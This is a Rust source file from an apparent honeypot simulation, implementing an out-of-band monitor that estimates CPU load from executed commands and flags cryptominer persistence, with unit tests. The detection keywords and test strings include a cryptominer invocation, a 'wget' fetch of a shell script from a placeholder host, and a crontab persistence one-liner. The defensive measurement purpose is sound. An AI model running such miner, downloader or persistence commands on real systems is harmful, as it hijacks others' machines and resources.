//! Out-of-band resource monitoring.
//!
//! "We implemented a resource monitor to observe CPU and network
//! bandwidth usage ... Once a threshold was exceeded, we shut down the
//! honeypot and restored the initial state of the server." The monitor
//! lives outside the honeypot (in the cloud provider's control plane), so
//! root on the machine cannot disable it.

use nokeys_apps::AppEvent;
use std::sync::atomic::{AtomicU64, Ordering};

/// CPU-load threshold above which a honeypot is restored.
pub const CPU_THRESHOLD: f64 = 0.90;

/// Simulated CPU load a command induces, inferred from its content the
/// way the real monitor infers it from utilization patterns.
pub fn load_of(command: &str) -> f64 {
    let c = command.to_ascii_lowercase();
    if c.contains("xmrig") || c.contains("kinsing") || c.contains("minexmr") {
        0.98
    } else if c.contains("curl") || c.contains("wget") {
        0.30
    } else if c.is_empty() {
        0.0
    } else {
        0.15
    }
}

/// Per-honeypot gauge: tracks the highest load currently induced.
#[derive(Debug, Default)]
pub struct ResourceGauge {
    /// Load in hundredths, to stay atomic.
    centi_load: AtomicU64,
    /// Whether a persistent implant (cronjob) is present.
    persistent: AtomicU64,
}

impl ResourceGauge {
    pub fn new() -> Self {
        Self::default()
    }

    /// Account for a batch of application events.
    pub fn note_events(&self, events: &[AppEvent]) {
        for e in events {
            if let Some(cmd) = e.as_execution() {
                let load = (load_of(cmd) * 100.0) as u64;
                self.centi_load.fetch_max(load, Ordering::Relaxed);
                if cmd.contains("crontab") {
                    self.persistent.store(1, Ordering::Relaxed);
                }
            }
        }
    }

    /// Current CPU load estimate (0.0–1.0).
    pub fn cpu(&self) -> f64 {
        self.centi_load.load(Ordering::Relaxed) as f64 / 100.0
    }

    /// Whether the threshold is exceeded (restore required).
    pub fn threshold_exceeded(&self) -> bool {
        self.cpu() > CPU_THRESHOLD
    }

    /// Whether a persistent implant was installed. A plain restart would
    /// not remove it — only the snapshot restore does.
    pub fn has_persistence(&self) -> bool {
        self.persistent.load(Ordering::Relaxed) == 1
    }

    /// Reset after a snapshot restore.
    pub fn reset(&self) {
        self.centi_load.store(0, Ordering::Relaxed);
        self.persistent.store(0, Ordering::Relaxed);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_attack::Payload;

    #[test]
    fn load_model_ranks_payload_classes() {
        assert!(load_of("/tmp/xmrig -o pool.minexmr.com") > 0.9);
        assert!(load_of("wget http://x/d.sh") < 0.5);
        assert!(load_of("echo hi") < 0.2);
        assert_eq!(load_of(""), 0.0);

        // The commands the attack plan sends.
        for miner in [Payload::monero_miner(1), Payload::kinsing(1)] {
            assert!(load_of(&miner.command) > CPU_THRESHOLD, "{}", miner.name);
        }
        for quiet in [Payload::downloader(1), Payload::install_hijack(1)] {
            assert!(load_of(&quiet.command) < CPU_THRESHOLD, "{}", quiet.name);
        }
        let g = ResourceGauge::new();
        g.note_events(&[AppEvent::CommandExecuted {
            command: Payload::monero_miner(1).command,
        }]);
        assert!(g.has_persistence());
    }

    #[test]
    fn gauge_tracks_max_and_persistence() {
        let g = ResourceGauge::new();
        assert!(!g.threshold_exceeded());
        g.note_events(&[AppEvent::CommandExecuted {
            command: "wget x".into(),
        }]);
        assert!(!g.threshold_exceeded());
        g.note_events(&[AppEvent::CommandExecuted {
            command: "(crontab -l; echo xmrig) | crontab -".into(),
        }]);
        assert!(g.threshold_exceeded());
        assert!(g.has_persistence());
        g.reset();
        assert!(!g.threshold_exceeded());
        assert!(!g.has_persistence());
        assert_eq!(g.cpu(), 0.0);
    }

    #[test]
    fn non_execution_events_do_not_move_the_gauge() {
        let g = ResourceGauge::new();
        g.note_events(&[AppEvent::TerminalOpened, AppEvent::ShutdownRequested]);
        assert_eq!(g.cpu(), 0.0);
    }
}
